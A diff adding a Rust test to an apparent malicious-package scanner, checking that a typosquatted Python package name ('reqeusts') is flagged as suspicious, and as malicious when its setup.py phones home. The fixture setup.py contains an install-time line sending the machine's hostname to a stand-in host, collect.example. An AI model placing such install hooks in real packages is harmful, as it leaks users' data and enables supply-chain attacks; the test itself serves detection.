@@ -198,3 +198,25 @@ fn unpacked_folder_is_scanned_and_setup_py_runs_at_install() {
     assert_eq!(r.package.kind, PackageKind::Dir);
     assert_eq!(r.verdict, VerdictKind::Malicious, "{r:#?}");
 }
+
+#[test]
+fn a_squatting_name_is_suspicious_alone_and_malicious_with_install_code() {
+    // setup.py sends the host name at install: weak alone, decisive under a squatting name.
+    let setup = b"import socket, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://collect.example/' + socket.gethostname())\nsetup(name='x')\n";
+    let empty = b"from setuptools import setup\nsetup(name='x')\n";
+    let sdist = |name: &str, setup: &[u8]| {
+        let meta = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
+        targz(&[
+            (&format!("{name}-1.0/setup.py"), setup),
+            (&format!("{name}-1.0/PKG-INFO"), meta.as_bytes()),
+        ])
+    };
+    let squat_alone = scan("/x/reqeusts-1.0.tar.gz", &sdist("reqeusts", empty));
+    assert_eq!(squat_alone.verdict, VerdictKind::Suspicious);
+    assert!(squat_alone.findings.iter().any(|f| f.rule == "PKG004"));
+    assert_eq!(squat_alone.metadata.as_ref().unwrap().name, "reqeusts");
+    let squat_with_code = scan("/x/reqeusts-1.0.tar.gz", &sdist("reqeusts", setup));
+    assert_eq!(squat_with_code.verdict, VerdictKind::Malicious);
+    let honest_name = scan("/x/requests-1.0.tar.gz", &sdist("requests", empty));
+    assert!(honest_name.findings.iter().all(|f| f.rule != "PKG004"));
+}
